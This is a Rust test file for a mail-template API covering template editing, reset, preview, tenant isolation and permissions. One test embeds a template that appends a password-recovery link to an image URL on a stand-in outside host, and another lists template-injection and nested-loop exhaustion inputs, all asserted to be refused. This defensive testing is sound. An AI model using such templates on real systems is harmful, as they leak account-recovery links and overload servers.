//! `/tenants/{tenant}/templates`: what letters say.

use rolecall_testkit::on_both_databases;
use serde_json::{Value, json};

use crate::server::{MailServer, at_port, postman, set_server, write};

const PATH: &str = "/tenants/main/templates/recovery/en";

fn wording() -> Value {
    json!({ "subject": "Hey {{ name }}", "text": "Go to {{ link }}", "html": "<p>Hey {{ name }}: <a href=\"{{ link }}\">go</a></p>" })
}

on_both_databases! {
    async fn every_template_comes_in_every_language_and_says_what_it_may_name(house: House) {
        let all = house.operator().get("/tenants/main/templates").await.expect(200);
        assert_eq!(all.items().len(), 30);
        assert!(all.items().iter().all(|each| each["edited"] == false && each["subject"] != "" && each["text"] != ""));
        let one = house.operator().get(PATH).await.expect(200);
        assert_eq!(one.body["names"], json!(["tenant", "name", "email", "url", "link", "expires", "ip"]));
        house.operator().get("/tenants/main/templates/recovery/fr").await.refused(404, "not_found");
        house.operator().get("/tenants/main/templates/gossip/en").await.refused(404, "not_found");
    }

    /// A75: whoever words a letter with a link could send the link to themselves.
    async fn a_letter_with_a_link_is_worded_by_holders_of_full_access_only(house: House) {
        let (editor, _) = house.somebody_with(&["settings:read:all", "settings:update:all"]).await;
        let carried_away = json!({ "subject": "x", "text": "{{ link }}", "html": "<img src=\"https://elsewhere.test/{{ link }}\">" });
        editor.if_match("\"1\"").put(PATH, carried_away).await.refused(403, "permission_missing");
        let notice = json!({ "subject": "Changed", "text": "Hey {{ name }}", "html": "<p>Hey {{ name }}</p>" });
        editor.if_match("\"1\"").put("/tenants/main/templates/password_changed/en", notice).await.expect(200);
    }

    async fn an_edited_template_is_what_is_sent_until_it_is_reset(house: House) {
        let mut server = MailServer::plain();
        set_server(&house.operator(), "main", at_port(server.port)).await.expect(200);
        let saved = house.operator().if_match("\"1\"").put(PATH, wording()).await.expect(200);
        assert_eq!((saved.header("etag"), &saved.body["edited"]), ("\"2\"", &json!(true)));
        house.operator().if_match("\"1\"").put(PATH, wording()).await.refused(412, "stale");
        write(&house, "recovery", "paula@example.org").await;
        assert!(postman(&house, None).deliver(None).await.unwrap());
        assert!(server.taken()["letter"].as_str().unwrap().contains("Subject: Hey Paula Probe"));
        let reset = house.operator().if_match("\"2\"").delete(PATH).await.expect(200);
        assert_eq!((reset.header("etag"), &reset.body["edited"]), ("\"3\"", &json!(false)));
        write(&house, "recovery", "paula@example.org").await;
        assert!(postman(&house, None).deliver(None).await.unwrap());
        assert!(server.taken()["letter"].as_str().unwrap().contains("Subject: Choose a new password"));
        let trail = house.operator().get("/tenants/main/audit?action=mail_template.save").await.expect(200);
        assert_eq!(trail.items()[0]["after"]["subject"], "Hey {{ name }}");
    }

    async fn a_template_that_cannot_be_filled_is_refused_at_its_line(house: House) {
        for (field, text, line, code) in [
            ("text", "fine\n{{ nickname }}", "line 2", "template_name_unknown"),
            ("text", "fine\n\n{% if name %}", "line 3", "template_faulty"),
            ("html", "{{ name", "line 1", "template_faulty"),
            ("subject", "{{ link.host.name }}", "line 1", "template_name_unknown"),
            ("text", "{% include 'x' %}", "line 1", "template_faulty"),
            ("text", "{{ name|safe }}", "line 1", "template_faulty"),
            ("text", "{% for a in 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa' %}{% for b in 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa' %}{% for c in 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa' %}x{% endfor %}{% endfor %}{% endfor %}", "line 1", "template_faulty"),
        ] {
            let mut wrong = wording();
            wrong[field] = json!(text);
            for answer in [house.operator().if_match("\"1\"").put(PATH, wrong.clone()).await, house.operator().post(&format!("{PATH}/preview"), wrong).await] {
                let answer = answer.refused(422, "invalid").at_field(&format!("/{field}"), code);
                assert!(answer.text_at("/errors/0/detail").starts_with(line), "{text}: {}", answer.text);
            }
        }
        assert_eq!(house.operator().get(PATH).await.expect(200).body["edited"], false);
    }

    async fn a_preview_shows_samples_and_saves_nothing(house: House) {
        let shown = house.operator().post(&format!("{PATH}/preview"), wording()).await.expect(200);
        assert_eq!(shown.text_at("/subject"), "Hey Paula Probe");
        assert!(shown.text_at("/html").contains("<a href=\"https:"), "{}", shown.text);
        assert_eq!(house.operator().get(PATH).await.expect(200).header("etag"), "\"1\"");
    }

    async fn a_tenant_chooses_the_language_of_letters_whose_reader_nobody_knows(house: House) {
        set_server(&house.operator(), "main", at_port(1)).await.expect(200);
        let shown = house.operator().get("/tenants/main/settings").await.expect(200);
        house.operator().if_match(shown.header("etag")).put("/tenants/main/settings", json!({ "mail": { "language": "de" } })).await.expect(200);
        let path = "/tenants/main/settings/mail/test";
        let message = house.operator().post(path, json!({ "to": "paula@example.org" })).await.expect(202);
        assert_eq!(message.text_at("/language"), "de");
    }

    async fn each_tenant_has_its_own_wording(house: House) {
        let (other, _) = house.tenant("acme").await;
        house.operator().if_match("\"1\"").put(PATH, wording()).await.expect(200);
        assert_eq!(other.get("/tenants/acme/templates/recovery/en").await.expect(200).body["edited"], false);
    }

    async fn reading_and_editing_templates_are_two_permissions(house: House) {
        let (reader, _) = house.somebody_with(&["settings:read:all"]).await;
        reader.get(PATH).await.expect(200);
        reader.if_match("\"1\"").put(PATH, wording()).await.refused(403, "permission_missing");
        reader.if_match("\"1\"").delete(PATH).await.refused(403, "permission_missing");
        reader.post(&format!("{PATH}/test"), json!({ "to": "paula@example.org" })).await.refused(403, "permission_missing");
    }
}
